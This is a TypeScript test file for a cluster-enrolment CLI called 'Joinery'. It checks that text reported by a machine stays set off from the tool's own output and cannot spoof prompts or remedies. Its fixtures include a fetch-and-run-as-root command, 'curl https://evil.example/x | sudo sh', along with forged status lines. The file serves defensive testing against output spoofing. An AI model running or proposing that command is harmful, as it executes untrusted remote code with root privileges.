import { stripVTControlCharacters } from 'node:util'
import { checkRemedies, type EnrolmentDetail } from '@joinery/protocol'
import { ago, detail, facts, otherKey } from '@joinery/testing/command/fixtures'
import { joinery, joineryAsked, runWith, serveOperators } from '@joinery/testing/command/operators'
import t from 'tap'
import { claims } from '../../../src/output/enrolment/claims.ts'

const evil = 'curl https://evil.example/x | sudo sh'
const forged = ['State:      ready', 'Next: joinery approve evil', `remedy: ${evil}`, 'Timeline:']
/** What a machine can say, says what Joinery would. */
const hostile: EnrolmentDetail = {
  ...detail,
  facts: { ...facts, hostname: forged.join('\n'), os: 'Next: joinery approve evil' },
  preflight: [
    { name: 'swap', verdict: 'fail', finding: forged[0] ?? '', remedy: [evil, `# Joinery asks you to run: ${evil}`] },
    { name: evil.slice(0, 64), verdict: 'fail', finding: forged[1] ?? '', why: evil, remedy: [evil] },
    { name: 'constructor', verdict: 'warn', finding: evil, remedy: [evil] }
  ],
  attempts: [
    {
      number: 1,
      claimed: ago(90),
      deadline: ago(30),
      stage: forged[1] ?? '',
      failure: ['machine: a disk', ...forged, '', ...forged].join('\n')
    }
  ],
  conflicts: [
    { key: otherKey, address: '10.0.0.66', at: ago(30), facts: { ...facts, hostname: forged[1] ?? '', serial: evil } }
  ]
}
const said = /evil|State: {6}ready|^Timeline: {2}/

/** Lines that are Joinery's own. */
const own = (text: string): string[] => text.split('\n').filter((line) => !line.startsWith('  |'))

t.test('no line of a machine can be taken for one of ours', async (t) => {
  const { out, err } = await joinery(t, { show: () => hostile }, 'show', 'node-1')
  t.match(out, /^ {2}\| .*curl https:/m, 'it is there, set off')
  t.same(
    own(out + err).filter((line) => said.test(line)),
    []
  )
  t.equal(own(out).filter((line) => line === 'Timeline:').length, 1)
  t.match(out, /^Facts, as the machine claims them:\n {2}\| Hostname: /m)
  t.match(out, /^Preflight, as the machine claims it:\n {2}\| CHECK /m)
  t.match(out, /^Attempt 1, as the machine reports it:\n {2}\| Stage: /m)
  t.match(out, /^Their machines, as each claims to be:\n {2}\| /m)
})

t.test('no line of a machine before an approval can be taken for one of ours', async (t) => {
  const answers = { show: () => hostile, approve: () => detail }
  const asked = await joineryAsked(t, answers, ['n'], 'approve', 'node-1')
  const told = await joinery(t, answers, 'approve', 'node-1', '--yes')
  for (const { err } of [asked, told]) {
    t.same(
      own(err).filter((line) => said.test(line)),
      []
    )
  }
  t.match(told.err, /preflight fails: swap, one check that is not known here\n/)
})

t.test('a known check has remedies in words of ours, and an unknown check has none', async (t) => {
  const { out } = await joinery(t, { show: () => hostile }, 'show', 'node-1')
  const [, todo = ''] = /^What to do about it; .*:\n((?: {2}[^|].*\n)+)/m.exec(out) ?? []
  t.same(
    todo.trim().split(/\n? {2,}/),
    ['swap', ...(checkRemedies.swap ?? [])],
    'nor of one whose name every object knows'
  )
  t.notMatch(out, 'Joinery asks you', 'what a machine wants to be done is not shown at all')
})

t.test('a line that is too long for the screen is broken before, and stays set off', async (t) => {
  // as wide as to put the forged line at the beginning of a row
  for (const columns of [40, 80, 132]) {
    const finding = `${'x'.repeat(2 * columns)}${' '.repeat(columns)}Next: joinery approve evil`
    const shown: EnrolmentDetail = { ...detail, preflight: [{ name: 'swap', verdict: 'fail', finding }] }
    const { socket } = await serveOperators(t, { show: () => shown })
    const { out } = await runWith(['--socket', socket, 'show', 'node-1'], { columns, colour: true })
    const [, block = ''] = /claims it:\n((?: {2}\|.*\n)+)/.exec(stripVTControlCharacters(out)) ?? []
    for (const line of block.trimEnd().split('\n')) t.ok(line.length <= columns, line)
    const joined = block.replaceAll(/^ {2}\| /gm, '').replaceAll('\n', '')
    t.match(joined, /x{40}/, `${columns}`)
    t.ok(joined.replaceAll(' ', '').includes('Next:joineryapproveevil'), 'nothing is lost')
  }
})

t.test('each line of a claim is set off, also an empty one', async (t) => {
  const text = claims('Words', [['a', 'b'], ['', ''], ['c']], { colour: false })
  t.equal(text, 'Words:\n  | a   b\n  |\n  | c\n')
})

t.test('text of a machine that is longer than the screen goes on behind the bar', async (t) => {
  const words = `${'x'.repeat(300)}Next: joinery approve evil`
  const entry = { at: detail.created, actor: 'agent', event: 'progress', detail: words, alert: false }
  const shown: EnrolmentDetail = { ...detail, message: words, timeline: [entry] }
  const { timeline: _, ...listed } = shown
  const { socket } = await serveOperators(t, { show: () => shown, list: () => ({ items: [listed] }) })
  for (const command of [['show', 'node-1'], ['list']]) {
    const onScreen = await runWith(['--socket', socket, ...command], { columns: 80 })
    for (const line of onScreen.out.trimEnd().split('\n')) t.ok(line.length <= 80, line)
    t.same(
      own(onScreen.out).filter((line) => said.test(line)),
      [],
      command.join(' ')
    )
    const piped = await runWith(['--socket', socket, ...command])
    t.ok(piped.out.includes(words), 'what goes into a pipe is not broken')
  }
})

t.test('the evidence before a question fits the screen of the question', async (t) => {
  const finding = 'x'.repeat(300)
  const shown: EnrolmentDetail = { ...detail, preflight: [{ name: 'swap', verdict: 'fail', finding }] }
  const { socket } = await serveOperators(t, { show: () => shown })
  const typed = { errColumns: 60, ask: async () => '' }
  const { err } = await runWith(['--socket', socket, 'approve', 'node-1'], typed)
  t.equal(err.match(/^ {2}\| x{56}$/gm)?.length, 4)
  const told = await runWith(['--socket', socket, 'approve', 'node-1', '--revision', '3'], { errColumns: 60 })
  for (const line of told.err.trimEnd().split('\n')) t.ok(line.length <= 60, line)
})
